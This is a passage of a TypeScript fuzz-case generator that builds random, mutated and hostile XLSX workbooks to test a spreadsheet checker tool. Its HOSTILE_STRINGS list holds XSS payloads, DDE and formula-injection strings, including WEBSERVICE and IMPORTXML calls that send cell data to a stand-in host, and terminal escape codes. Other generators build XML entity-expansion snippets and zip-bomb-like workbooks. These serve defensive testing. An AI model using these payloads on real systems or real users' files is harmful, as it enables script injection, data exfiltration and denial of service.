/**
 * Fuzz cases for `bureau-stats check`: random workbooks written as SpreadsheetML by hand (fast, and
 * able to hold what no library writes: NaN, 1e999, control characters, cells out of order,
 * shared-string indexes out of range …), with and without real template frames, header rows, 合计
 * rows and years; random filled templates written by the template writer (writer.ts); the hostile
 * classes (hostileMutant); and byte- and XML-level mutations of the sample workbooks.
 *
 * Everything is drawn from fast-check with a seed, so one seed gives the same cases on every
 * machine; a failing case is also saved as bytes (see fuzz-harness.ts), so it replays without the
 * generator.
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from "fflate";
import { FRAME_LABELS, BUILTIN_DEFINITIONS, TOTAL_LABEL } from "../../src/core/definitions";
import type { ColumnDefinition } from "../../src/core/definitions";
import { columnLetters } from "../../src/core/model";
import {
  writeTemplateWorkbook,
  type CellInput,
  type TemplateSheetInput,
} from "../../src/hosts/xlsx/template";
import { buildXlsx, escapeXml, type PartsSheet } from "../../scripts/lib/xlsx-parts";
import {
  deflateRepeated,
  partsOf,
  rawZip,
  sampleParts,
  zipParts,
  type RawEntry,
} from "../../scripts/lib/hostile-xlsx";

export const ROOT = path.resolve(__dirname, "../..");
export const SAMPLES = ["bureau-stats-2013.xlsx", "bureau-stats-2013-mistakes.xlsx"].map((f) =>
  path.join(ROOT, "assets", "samples", f)
);

/** One input for `bureau-stats check`: the file's bytes, the extra flags, what it is. */
export interface FuzzCase {
  readonly id: string;
  /**
   * `random` workbook, `bytes` mutation of a sample, `xml` mutation inside a sample's parts,
   * `hostile` one of the hostile classes with random sizes (hostileMutant).
   */
  readonly kind: "random" | "bytes" | "xml" | "exceljs" | "hostile";
  readonly description: string;
  readonly bytes: Uint8Array;
  /** Flags after the file(s): --json, --approx, --year …, and `--docx` (the harness adds a path). */
  readonly flags: readonly string[];
  /** Check a sample together with this file (several files are merged). */
  readonly withSample: boolean;
}

/* ------------------------------------------------------------------ hostile strings */

/** Cell text that must stay text everywhere (HTML/script and formula injection). */
export const HOSTILE_STRINGS: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "<iframe src=javascript:alert(1)>",
  "</textarea><script>alert(2)</script>",
  '<a href="javascript:alert(1)">点我</a>',
  "&lt;b&gt;已转义&lt;/b&gt; & <b>粗体</b>",
  "{{constructor.constructor('alert(1)')()}}",
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-1+1",
  "=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "=cmd|'/C calc'!A0",
  '=WEBSERVICE("http://x.invalid/?"&A1)',
  '=IMPORTXML(CONCAT("http://x.invalid/?v=",A1),"//a")',
  "＝1+1",
  "]]><x/>",
  "<![CDATA[<script>alert(3)</script>]]>",
  "_x003C_script_x003E_",
  // terminal escapes as Excel stores control characters (the reader decodes _x001B_ to ESC)
  "_x001B_[2J_x001B_[31m已清屏_x001B_[0m",
  "_x001B_]0;终端标题_x0007__x001B_]52;c;cHduZWQ=_x0007_",
  "\u001b[2J\u001b[31m原样控制符\u001b[0m",
];

/* ------------------------------------------------------------------ cell XML */

/** A cell as written into the sheet XML: its type attribute, value text, style, formula. */
interface XmlCell {
  readonly t?: string;
  /** Raw text of `<v>` (not escaped: the generator chooses what to break). */
  readonly v?: string;
  /** Inline string text (escaped when written). */
  readonly is?: string;
  readonly f?: string;
  readonly s?: number;
  /** A shared string (escaped, stored in sharedStrings.xml). */
  readonly shared?: string;
}

const STYLE = fc.integer({ min: 0, max: 8 }); // 0–6 exist in DEFAULT_STYLES, 7–8 do not

const numberText = fc.oneof(
  fc.double().map((n) => String(n)), // NaN, Infinity, -0, 5e-324 …
  fc.integer({ min: -1_000_000, max: 1_000_000 }).map(String),
  fc.constantFrom(
    "NaN",
    "1e999",
    "-1e999",
    "",
    "-",
    "0x1F",
    "1,234",
    "１２",
    "1.2.3",
    " 7 ",
    "9".repeat(400)
  )
);

/** Text people type, and text nobody should. */
const cellText = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "49人",
      "４９",
      "301,370",
      "7万",
      "3.5万元",
      " 12 ",
      "98.5%",
      "100%",
      "0.985",
      "合计",
      "小计",
      "2013年",
      "２０１３",
      "#DIV/0!",
      "—",
      "无",
      "",
      " ",
      "\u200b",
      "\u0000\u0001\u001f",
      "𠀀𪚥",
      "e\u0301",
      "_x0000__xD800_",
      "a\r\nb"
    ),
  },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.constantFrom("长".repeat(40_000), "x".repeat(33_000)) }
);

/** Any cell value of SpreadsheetML, including broken ones. */
const anyCell: fc.Arbitrary<XmlCell> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ v: numberText, s: STYLE }) },
  { weight: 4, arbitrary: cellText.map((shared) => ({ t: "s", shared })) },
  { weight: 2, arbitrary: cellText.map((is) => ({ t: "inlineStr", is })) },
  { weight: 1, arbitrary: cellText.map((v) => ({ t: "str", v: escapeXml(v), f: 'A1&""' })) },
  { weight: 1, arbitrary: fc.constantFrom("0", "1", "2", "true", "").map((v) => ({ t: "b", v })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(
        "#DIV/0!",
        "#N/A",
        "#REF!",
        "#VALUE!",
        "#NAME?",
        "#NUM!",
        "#NULL!",
        "#SPILL!",
        "#BOGUS"
      )
      .map((v) => ({ t: "e", v })),
  },
  {
    weight: 1,
    arbitrary: fc
      .oneof(
        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
        fc.constantFrom("2013-02-30", "2013-13-01", "9999-12-31T23:59:59", "0000-00-00", "昨天", "")
      )
      .map((v) => ({ t: "d", v })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.oneof(fc.integer({ min: -100, max: 3_000_000 }), fc.double({ min: -1, max: 2_958_466 })),
        fc.constantFrom(4, 5)
      )
      .map(([n, s]) => ({ v: String(n), s })),
  },
  { weight: 1, arbitrary: fc.constant({}) }, // <c r=".."/>
  { weight: 1, arbitrary: fc.constant({ t: "s", v: "999999" }) }, // shared index out of range
  { weight: 1, arbitrary: fc.constant({ t: "s", v: "-1" }) },
  { weight: 1, arbitrary: fc.constant({ t: "s" }) } // shared, no value
);

/** A plausible value for a definition's column (most of the time), or anything. */
function columnCell(col: ColumnDefinition | undefined): fc.Arbitrary<XmlCell> {
  if (!col) return anyCell;
  let plausible: fc.Arbitrary<XmlCell>;
  switch (col.type) {
    case "enum":
      plausible = fc
        .constantFrom(...(col.allowed ?? ["其他"]))
        .map((shared) => ({ t: "s", shared }));
      break;
    case "text":
      plausible = cellText.map((shared) => ({ t: "s", shared }));
      break;
    case "count":
      plausible = fc.integer({ min: 0, max: 500 }).map((n) => ({ v: String(n), s: 1 }));
      break;
    case "money":
      plausible = fc
        .integer({ min: 0, max: 10_000_000 })
        .map((n) => ({ v: String(n / 100), s: 6 }));
      break;
    case "percent":
      plausible = fc.integer({ min: 0, max: 1000 }).map((n) => ({ v: String(n / 1000), s: 3 }));
      break;
    case "date":
      plausible = fc.integer({ min: 41_000, max: 42_000 }).map((n) => ({ v: String(n), s: 4 }));
      break;
    default:
      plausible = fc.double({ min: 0, max: 300, noNaN: true }).map((n) => ({ v: String(n) }));
  }
  return fc.oneof({ weight: 5, arbitrary: plausible }, { weight: 1, arbitrary: anyCell });
}

/* ------------------------------------------------------------------ sheets */

/** A row of cells: `undefined` leaves the cell out (ragged rows, holes). */
type XmlRow = ReadonlyArray<XmlCell | undefined>;

interface SheetDraft {
  readonly name: string;
  readonly rows: readonly XmlRow[];
  /** Write rows/cells without `r` attributes, out of order, or with a far-away reference. */
  readonly layout: "normal" | "noRefs" | "shuffled" | "farAway";
}

const sheetName = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "表1",
      "表2 2013",
      "表1 党员发展 2012",
      "Sheet1",
      "合计",
      "表3 经费情况 2013"
    ),
  },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) }
);

const yearCell: fc.Arbitrary<XmlCell> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(2012, 2013, 2014).map((y) => ({ v: String(y), s: 1 })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom("2013年", "２０１３", "13", "二〇一三", "", "1899", "2100", "2013.5")
      .map((shared) => ({ t: "s", shared })),
  },
  { weight: 1, arbitrary: anyCell }
);

/** A sheet laid out like a template (title, frame, headers, data rows, 合计), with noise. */
const templateSheet: fc.Arbitrary<SheetDraft> = fc
  .record({
    definition: fc.constantFrom(...BUILTIN_DEFINITIONS),
    name: sheetName,
    year: yearCell,
    withTitle: fc.boolean(),
    withFrame: fc.nat(4),
    headerShape: fc.constantFrom("all", "all", "all", "shuffled", "drop", "dup", "extra"),
    leadingBlankRows: fc.nat(2),
    dataRows: fc.nat(25),
    total: fc.constantFrom("exact", "exact", "wrong", "none", "textual"),
    seed: fc.integer(),
    layout: fc.constantFrom<SheetDraft["layout"]>(
      "normal",
      "normal",
      "normal",
      "noRefs",
      "shuffled",
      "farAway"
    ),
  })
  .chain((p) => {
    const all = p.definition.columns;
    let cols: Array<ColumnDefinition | undefined> = [...all];
    const rnd = fc.sample(fc.nat(1000), { seed: p.seed, numRuns: 4 });
    const pick = (k: number) => (rnd[k] ?? 0) % Math.max(1, all.length);
    if (p.headerShape === "shuffled")
      cols =
        fc.sample(fc.shuffledSubarray(all, { minLength: all.length }), {
          seed: p.seed,
          numRuns: 1,
        })[0] ?? cols;
    if (p.headerShape === "drop") cols.splice(pick(0), 1);
    if (p.headerShape === "dup") cols.splice(pick(1), 0, all[pick(1)]);
    if (p.headerShape === "extra") cols.splice(pick(2), 0, undefined);
    const headers: XmlCell[] = cols.map((c) => ({ t: "s", shared: c ? c.header : "附加列" }));
    const data = fc.array(
      fc.tuple(...cols.map((c) => fc.option(columnCell(c), { freq: 8, nil: undefined }))),
      { minLength: p.dataRows, maxLength: p.dataRows }
    );
    return fc.tuple(
      fc.constant(p),
      fc.constant(cols),
      fc.constant(headers),
      data,
      fc.option(anyCell, { nil: undefined })
    );
  })
  .map(([p, cols, headers, data, noise]) => {
    const rows: XmlRow[] = [];
    if (p.withTitle) rows.push([{ t: "s", shared: p.definition.title }]);
    if (p.withFrame > 0) {
      const frame: XmlCell[] = [];
      FRAME_LABELS.forEach((label) => {
        frame.push({ t: "s", shared: label });
        frame.push(label === "统计年度" ? p.year : { t: "s", shared: "示例" });
      });
      rows.push(frame);
    }
    for (let i = 0; i < p.leadingBlankRows; i++) rows.push([]);
    rows.push(headers);
    rows.push(...(data as XmlRow[]));
    if (p.total !== "none") {
      const total: Array<XmlCell | undefined> = [{ t: "s", shared: TOTAL_LABEL }];
      cols.forEach((c, k) => {
        if (k === 0) return;
        if (p.total === "textual") total.push(noise);
        else if (c && (c.type === "count" || c.type === "money")) {
          let sum = 0;
          for (const r of data as XmlRow[]) {
            const v = Number(r[k]?.v);
            if (Number.isFinite(v)) sum += c.type === "money" ? Math.round(v * 100) : v;
          }
          if (c.type === "money") sum /= 100;
          total.push({
            v: String(p.total === "wrong" ? sum + 1 : sum),
            s: c.type === "money" ? 6 : 1,
          });
        } else total.push(undefined);
      });
      rows.push(total);
    }
    return { name: p.name, rows, layout: p.layout };
  });

/** A grid of anything, ragged. */
const freeSheet: fc.Arbitrary<SheetDraft> = fc.record({
  name: sheetName,
  rows: fc.array(fc.array(fc.option(anyCell, { freq: 4, nil: undefined }), { maxLength: 14 }), {
    maxLength: 30,
  }),
  layout: fc.constantFrom<SheetDraft["layout"]>(
    "normal",
    "normal",
    "noRefs",
    "shuffled",
    "farAway"
  ),
});

/** Sheet XML for a draft; shared strings are appended to `sst`. */
function sheetXml(sheet: SheetDraft, sst: string[]): string {
  const rowsXml: string[] = [];
  sheet.rows.forEach((row, r) => {
    const cells: string[] = [];
    row.forEach((cell, c) => {
      if (!cell) return;
      let ref = `${columnLetters(c)}${r + 1}`;
      if (sheet.layout === "farAway" && r === sheet.rows.length - 1 && c === row.length - 1)
        ref = "XFD1048576";
      const attrs =
        (sheet.layout === "noRefs" ? "" : ` r="${ref}"`) +
        (cell.t ? ` t="${cell.t}"` : "") +
        (cell.s !== undefined ? ` s="${cell.s}"` : "");
      let inner = "";
      if (cell.f !== undefined) inner += `<f>${escapeXml(cell.f)}</f>`;
      if (cell.shared !== undefined) {
        sst.push(cell.shared);
        inner += `<v>${sst.length - 1}</v>`;
      } else if (cell.is !== undefined)
        inner += `<is><t xml:space="preserve">${escapeXml(cell.is)}</t></is>`;
      else if (cell.v !== undefined) inner += `<v>${cell.v}</v>`;
      cells.push(inner ? `<c${attrs}>${inner}</c>` : `<c${attrs}/>`);
    });
    if (sheet.layout === "shuffled") cells.reverse();
    rowsXml.push(`<row${sheet.layout === "noRefs" ? "" : ` r="${r + 1}"`}>${cells.join("")}</row>`);
  });
  if (sheet.layout === "shuffled") rowsXml.reverse();
  return rowsXml.join("");
}

/** Random workbooks: 1–4 sheets, mostly template-like, sometimes hidden, sometimes 1904-dated. */
export const randomWorkbook = fc
  .record({
    sheets: fc.array(
      fc.oneof({ weight: 3, arbitrary: templateSheet }, { weight: 1, arbitrary: freeSheet }),
      {
        minLength: 1,
        maxLength: 4,
      }
    ),
    date1904: fc.boolean(),
    hidden: fc.nat(5),
    level: fc.constantFrom<0 | 1 | 6>(0, 1, 6),
  })
  .map((w) => {
    const sst: string[] = [];
    const sheets: PartsSheet[] = w.sheets.map((s, i) => ({
      name: s.name,
      xml: sheetXml(s, sst),
      ...(i === w.hidden ? { state: "hidden" as const } : {}),
    }));
    const description = w.sheets
      .map((s) => `${JSON.stringify(s.name)}: ${s.rows.length} rows (${s.layout})`)
      .join("; ");
    return {
      bytes: buildXlsx({
        sheets,
        sharedStrings: sst.map((t) => `<si><t xml:space="preserve">${escapeXml(t)}</t></si>`),
        date1904: w.date1904,
        level: w.level,
      }),
      description,
    };
  });

/* ------------------------------------------------------------------ mutations */

let sampleBytes: Uint8Array[] | undefined;
function samples(): Uint8Array[] {
  sampleBytes ??= SAMPLES.map((f) => new Uint8Array(readFileSync(f)));
  return sampleBytes;
}

type ByteMutation =
  | { op: "flip"; at: number[]; bits: number[] }
  | { op: "truncate"; at: number }
  | { op: "insert"; at: number; data: Uint8Array }
  | { op: "zero"; at: number; length: number }
  | { op: "duplicate"; at: number; length: number }
  | { op: "set"; at: number; byte: number };

const byteMutation: fc.Arbitrary<ByteMutation> = fc.oneof(
  fc.record({
    op: fc.constant("flip" as const),
    at: fc.array(fc.nat(), { minLength: 1, maxLength: 8 }),
    bits: fc.array(fc.nat(7), { minLength: 8, maxLength: 8 }),
  }),
  fc.record({ op: fc.constant("truncate" as const), at: fc.nat() }),
  fc.record({
    op: fc.constant("insert" as const),
    at: fc.nat(),
    data: fc.uint8Array({ minLength: 1, maxLength: 64 }),
  }),
  fc.record({
    op: fc.constant("zero" as const),
    at: fc.nat(),
    length: fc.integer({ min: 1, max: 4096 }),
  }),
  fc.record({
    op: fc.constant("duplicate" as const),
    at: fc.nat(),
    length: fc.integer({ min: 1, max: 2048 }),
  }),
  fc.record({
    op: fc.constant("set" as const),
    at: fc.nat(),
    byte: fc.constantFrom(0, 0xff, 0x50, 0x4b, 0x7f),
  })
);

function applyBytes(src: Uint8Array, m: ByteMutation): Uint8Array {
  const n = src.length;
  switch (m.op) {
    case "flip": {
      const out = src.slice();
      m.at.forEach((a, k) => {
        const i = a % n;
        out[i] = (out[i] ?? 0) ^ (1 << (m.bits[k] ?? 0));
      });
      return out;
    }
    case "truncate":
      return src.slice(0, m.at % n);
    case "insert": {
      const i = m.at % (n + 1);
      const out = new Uint8Array(n + m.data.length);
      out.set(src.subarray(0, i));
      out.set(m.data, i);
      out.set(src.subarray(i), i + m.data.length);
      return out;
    }
    case "zero": {
      const out = src.slice();
      out.fill(0, m.at % n, (m.at % n) + m.length);
      return out;
    }
    case "duplicate": {
      const i = m.at % n;
      const piece = src.subarray(i, i + m.length);
      const out = new Uint8Array(n + piece.length);
      out.set(src.subarray(0, i + piece.length));
      out.set(piece, i + piece.length);
      out.set(src.subarray(i + piece.length), i + 2 * piece.length);
      return out;
    }
    case "set": {
      const out = src.slice();
      out[m.at % n] = m.byte;
      return out;
    }
  }
}

/** Snippets inserted into a part's XML. */
const XML_SNIPPETS = [
  '<c r="A1" t="s"><v>999999</v></c>',
  '<row r="0"><c r="A0"><v>1</v></c></row>',
  '<row r="1048577"><c r="XFE1"><v>1</v></c></row>',
  "&#0;",
  "&#xD800;",
  "&bogus;",
  "&amp",
  "<![CDATA[",
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
  '<c r="ZZZZ99999999" t="n"><v>1</v></c>',
  "<v>NaN</v>",
  "<v>1e999</v>",
  "<c",
  "</row>",
  "</sheetData>",
  '<x:c r="B2" xmlns:x="urn:x"><x:v>5</x:v></x:c>',
  '<mergeCell ref="A1:XFD1048576"/>',
  '<mergeCell ref="B5:A1"/>',
  '<sheet name="幽灵" sheetId="99" r:id="rId99"/>',
  '<numFmt numFmtId="4" formatCode="0.0%"/>',
  '<xf numFmtId="999"/>',
  "\u0000",
  "\uFFFF",
  "<si><t>" + "<img src=x onerror=alert(1)>".replace(/</g, "&lt;") + "</t></si>",
];

type XmlMutation =
  | { op: "delete"; at: number; length: number }
  | { op: "duplicate"; at: number; length: number }
  | { op: "insert"; at: number; snippet: string }
  | { op: "digits"; at: number; digits: string }
  | { op: "dropPart" }
  | { op: "renamePart"; to: string };

const xmlMutation: fc.Arbitrary<XmlMutation> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.record({
      op: fc.constant("delete" as const),
      at: fc.nat(),
      length: fc.integer({ min: 1, max: 200 }),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      op: fc.constant("duplicate" as const),
      at: fc.nat(),
      length: fc.integer({ min: 1, max: 400 }),
    }),
  },
  {
    weight: 4,
    arbitrary: fc.record({
      op: fc.constant("insert" as const),
      at: fc.nat(),
      snippet: fc.constantFrom(...XML_SNIPPETS),
    }),
  },
  {
    weight: 3,
    arbitrary: fc.record({
      op: fc.constant("digits" as const),
      at: fc.nat(),
      digits: fc.constantFrom("9999999999", "-1", "0", "1e308", "NaN", "", "00000000000000000001"),
    }),
  },
  { weight: 1, arbitrary: fc.constant({ op: "dropPart" as const }) },
  {
    weight: 1,
    arbitrary: fc.record({
      op: fc.constant("renamePart" as const),
      to: fc.constantFrom("xl/workbook2.xml", "XL/WORKBOOK.XML", "xl/worksheets/../workbook.xml"),
    }),
  }
);

function applyXml(xml: string, m: Exclude<XmlMutation, { op: "dropPart" | "renamePart" }>): string {
  const n = Math.max(1, xml.length);
  const at = m.at % n;
  switch (m.op) {
    case "delete":
      return xml.slice(0, at) + xml.slice(at + m.length);
    case "duplicate":
      return xml.slice(0, at + m.length) + xml.slice(at, at + m.length) + xml.slice(at + m.length);
    case "insert": {
      // near a tag boundary when there is one after `at`
      const lt = xml.indexOf("<", at);
      const i = lt >= 0 ? lt : at;
      return xml.slice(0, i) + m.snippet + xml.slice(i);
    }
    case "digits": {
      const re = /\d+/g;
      re.lastIndex = at;
      const hit = re.exec(xml);
      if (!hit) return xml;
      return xml.slice(0, hit.index) + m.digits + xml.slice(hit.index + hit[0].length);
    }
  }
}

export const byteMutant = fc
  .record({
    sample: fc.nat(SAMPLES.length - 1),
    mutations: fc.array(byteMutation, { minLength: 1, maxLength: 3 }),
  })
  .map(({ sample, mutations }) => {
    let bytes = samples()[sample] as Uint8Array;
    for (const m of mutations) bytes = applyBytes(bytes, m);
    const what = mutations
      .map((m) => m.op + ("at" in m ? `@${Array.isArray(m.at) ? m.at.join("/") : m.at}` : ""))
      .join(", ");
    return { bytes, description: `${path.basename(SAMPLES[sample] ?? "")}: ${what}` };
  });

export const xmlMutant = fc
  .record({
    sample: fc.nat(SAMPLES.length - 1),
    part: fc.nat(),
    mutations: fc.array(xmlMutation, { minLength: 1, maxLength: 4 }),
    level: fc.constantFrom<0 | 6>(0, 6),
  })
  .map(({ sample, part, mutations, level }) => {
    const parts = unzipSync(samples()[sample] as Uint8Array);
    const names = Object.keys(parts).sort();
    // mostly the parts the reader reads
    const preferred = names.filter((n) =>
      /^xl\/(workbook\.xml|worksheets\/|sharedStrings|styles|_rels)/.test(n)
    );
    const pool = preferred.length > 0 && part % 5 !== 0 ? preferred : names;
    const name = pool[part % pool.length] as string;
    const files: Zippable = {};
    for (const n of names) files[n] = parts[n] as Uint8Array;
    let xml = strFromU8(parts[name] as Uint8Array);
    let renamed: string | undefined;
    let dropped = false;
    for (const m of mutations) {
      if (m.op === "dropPart") dropped = true;
      else if (m.op === "renamePart") renamed = m.to;
      else xml = applyXml(xml, m);
    }
    delete files[name];
    if (!dropped) files[renamed ?? name] = strToU8(xml);
    const what = mutations.map((m) => m.op).join(", ");
    return {
      bytes: zipSync(files, { level }),
      description: `${path.basename(SAMPLES[sample] ?? "")} ${name}${renamed ? ` → ${renamed}` : ""}${dropped ? " (dropped)" : ""}: ${what}`,
    };
  });

/* ------------------------------------------------------------------ hostile classes */

const NS_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';

/** A part name of the clean sample (mostly those the reader reads). */
const samplePart = fc.constantFrom(
  "xl/workbook.xml",
  "xl/_rels/workbook.xml.rels",
  "xl/sharedStrings.xml",
  "xl/styles.xml",
  "xl/worksheets/sheet1.xml",
  "xl/worksheets/sheet2.xml",
  "xl/worksheets/sheet5.xml",
  "[Content_Types].xml",
  "_rels/.rels"
);

/** Edits the text of one part of the clean sample. */
function sampleWith(part: string, edit: (xml: string) => string): Record<string, Uint8Array> {
  const parts = sampleParts();
  parts[part] = strToU8(edit(strFromU8(parts[part] as Uint8Array)));
  return parts;
}

/** Inserts `what` before the `k`-th `<` of `xml` (mod the count). */
function insertAtTag(xml: string, k: number, what: string): string {
  const tags: number[] = [];
  for (let i = xml.indexOf("<", 1); i >= 0; i = xml.indexOf("<", i + 1)) tags.push(i);
  const at = tags.length === 0 ? xml.length : (tags[k % tags.length] as number);
  return xml.slice(0, at) + what + xml.slice(at);
}

type Made = { bytes: Uint8Array; description: string };

/**
 * The hostile classes with random sizes and places: lying zip sizes, sparse extents out to XFD,
 * duplicate, overlapping and misnamed entries, bad CRCs, comments and CDATA (closed or not),
 * long sheet names, characters XML forbids (escaped, so they reach the writers, or raw), merges
 * over tall sheets, shared-string floods. Small enough for the per-case bound; the full sizes run
 * in `npm run bench -- hostile`.
 */
export const hostileMutant: fc.Arbitrary<Made> = fc.oneof(
  fc
    .record({ mb: fc.integer({ min: 1, max: 64 }), declared: fc.nat(2_000_000) })
    .map(({ mb, declared }): Made => {
      const { raw, crc } = deflateRepeated(
        `<worksheet ${NS_MAIN}><sheetData>`,
        " ".repeat(1 << 20),
        mb,
        "</sheetData></worksheet>"
      );
      return {
        bytes: zipParts(sampleParts(), {
          "xl/worksheets/sheet1.xml": { raw, size: declared, crc },
        }),
        description: `lying size: 表1 declared ${declared} bytes, inflates to ${mb} MB`,
      };
    }),
  fc
    .record({
      sheets: fc.integer({ min: 1, max: 30 }),
      row: fc.integer({ min: 1, max: 1_048_576 }),
      col: fc.integer({ min: 1, max: 16_384 }),
      rows: fc.integer({ min: 1, max: 3000 }),
    })
    .map(({ sheets, row, col, rows }): Made => {
      const letters = columnLetters(col - 1);
      let xml = "";
      for (let r = 1; r <= rows; r++)
        xml += `<row r="${r}"><c r="${letters}${r}"><v>1</v></c></row>`;
      if (row > rows) xml += `<row r="${row}"><c r="A${row}"><v>1</v></c></row>`;
      return {
        bytes: buildXlsx({
          sheets: Array.from({ length: sheets }, (_, i) => ({ name: `S${i + 1}`, xml })),
        }),
        description: `sparse: ${sheets} sheets × ${rows} rows with a value at column ${letters}, last row ${Math.max(row, rows)}`,
      };
    }),
  fc
    .record({ part: samplePart, op: fc.constantFrom("duplicate", "overlap", "local-name", "crc") })
    .map(({ part, op }): Made => {
      const parts = sampleParts();
      const entries: RawEntry[] = Object.entries(parts).map(([name, data]) => ({ name, data }));
      const i = entries.findIndex((e) => e.name === part);
      const e = entries[i] as RawEntry;
      if (op === "duplicate")
        entries.push({ name: part.toUpperCase(), data: e.data ?? new Uint8Array() });
      else if (op === "overlap") entries.push({ ...e, name: `${part}.copy`, sameDataAs: part });
      else if (op === "local-name") entries[i] = { ...e, localName: "xl/other.xml" };
      else entries[i] = { ...e, crc: 0xdeadbeef };
      return { bytes: rawZip(entries), description: `zip entry ${part}: ${op}` };
    }),
  fc
    .record({
      part: samplePart,
      at: fc.nat(),
      what: fc.constantFrom(
        '<!-- <row r="5"><c r="C5"><v>1</v></c></row> -->',
        "<!-- unclosed",
        "<?pi data?>",
        '<![CDATA[<c r="A1"><v>9</v></c>]]>',
        "<![CDATA[unclosed",
        "<!DOCTYPE x [<!ENTITY e 'x'>]>",
        "</stray>",
        "<open>"
      ),
    })
    .map(({ part, at, what }): Made => ({
      bytes: zipParts(sampleWith(part, (xml) => insertAtTag(xml, at, what))),
      description: `markup in ${part} at tag ${at}: ${what}`,
    })),
  fc
    .record({ length: fc.integer({ min: 20, max: 200_000 }), sheet: fc.nat(7) })
    .map(({ length, sheet }): Made => {
      let k = 0;
      return {
        bytes: zipParts(
          sampleWith("xl/workbook.xml", (xml) =>
            xml.replace(/ name="([^"]*)"/g, (m, n: string) =>
              k++ === sheet ? ` name="${escapeXml(n)}${"名".repeat(length)}"` : m
            )
          )
        ),
        description: `sheet ${sheet} renamed to ${length}+ characters`,
      };
    }),
  fc
    .record({
      text: fc.constantFrom(
        "_xFFFE_",
        "_xFFFF_",
        "_x0001_",
        "_x202E_",
        "_x2066_",
        "_x200B_",
        "_xD800_",
        "\u0001",
        "\ufffe",
        "\u202e"
      ),
      at: fc.nat(40),
    })
    .map(({ text, at }): Made => {
      let k = 0;
      return {
        bytes: zipParts(
          sampleWith("xl/sharedStrings.xml", (xml) =>
            xml.replace(/<t>([^<]{2,})<\/t>/g, (m, t: string) =>
              k++ % 41 === at ? `<t>${t.slice(0, 1)}${text}${t.slice(1)}</t>` : m
            )
          )
        ),
        description: `shared string ${at} holds ${JSON.stringify(text)}`,
      };
    }),
  fc
    .record({
      rows: fc.integer({ min: 2, max: 20_000 }),
      merges: fc.integer({ min: 1, max: 5000 }),
    })
    .map(({ rows, merges }): Made => {
      const { raw, size, crc } = deflateRepeated(
        `<worksheet ${NS_MAIN}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>单位</t></is></c></row>`,
        "<row><c><v>1</v></c></row>",
        rows - 1,
        `</sheetData><mergeCells>${`<mergeCell ref="A1:A${rows}"/>`.repeat(merges)}</mergeCells></worksheet>`
      );
      const parts = partsOf(buildXlsx({ sheets: [{ name: "表1", xml: "" }] }));
      return {
        bytes: zipParts(parts, { "xl/worksheets/sheet1.xml": { raw, size, crc } }),
        description: `${merges} merges over ${rows} rows`,
      };
    }),
  fc.integer({ min: 1, max: 3_000_000 }).map((items): Made => {
    const { raw, size, crc } = deflateRepeated(
      `<sst ${NS_MAIN}>`,
      "<si/>".repeat(1000),
      Math.ceil(items / 1000),
      "</sst>"
    );
    return {
      bytes: zipParts(sampleParts(), { "xl/sharedStrings.xml": { raw, size, crc } }),
      description: `${items} shared strings`,
    };
  })
);

const flags = fc.oneof(
  { weight: 4, arbitrary: fc.constant<string[]>([]) },
  { weight: 2, arbitrary: fc.constant(["--json"]) },
  { weight: 1, arbitrary: fc.constant(["--approx"]) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      ["--year", "2013"],
      ["--year", "2012"],
      ["--year", "1999"],
      ["--json", "--year", "2014"]
    ),
  },
  { weight: 1, arbitrary: fc.constant(["--docx"]) }
);

/**
 * `count` cases from `seed`, in proportions: two fifths random workbooks, a fifth each byte
 * mutants, XML mutants and the hostile classes; some checked together with a sample
 * (several files merged).
 * @example fuzzCases(42, 100).length // 100
 */
export function fuzzCases(seed: number, count: number, prefix = "c"): FuzzCase[] {
  const kinds = fc.sample(
    fc.record({
      kind: fc.constantFrom<FuzzCase["kind"]>("random", "random", "bytes", "xml", "hostile"),
      flags,
      withSample: fc.nat(9).map((k) => k === 0),
      seed: fc.integer(),
    }),
    { seed, numRuns: count }
  );
  return kinds.map((k, i) => {
    const arb =
      k.kind === "random"
        ? randomWorkbook
        : k.kind === "bytes"
          ? byteMutant
          : k.kind === "hostile"
            ? hostileMutant
            : xmlMutant;
    const made = fc.sample(arb, { seed: k.seed, numRuns: 1 })[0] as {
      bytes: Uint8Array;
      description: string;
    };
    return {
      id: `${prefix}${i}`,
      kind: k.kind,
      description: made.description,
      bytes: made.bytes,
      flags: k.flags,
      withSample: k.withSample,
    };
  });
}

/* ------------------------------------------------------------------ workbooks written by the template writer (kind "exceljs": it was ExcelJS) */

const cellInput: fc.Arbitrary<CellInput> = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -1000, max: 100_000 }) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 4, arbitrary: cellText },
  { weight: 1, arbitrary: fc.boolean() },
  {
    weight: 1,
    arbitrary: fc.date({
      min: new Date(Date.UTC(1900, 0, 1)),
      max: new Date(Date.UTC(2100, 0, 1)),
      noInvalidDate: true,
    }),
  },
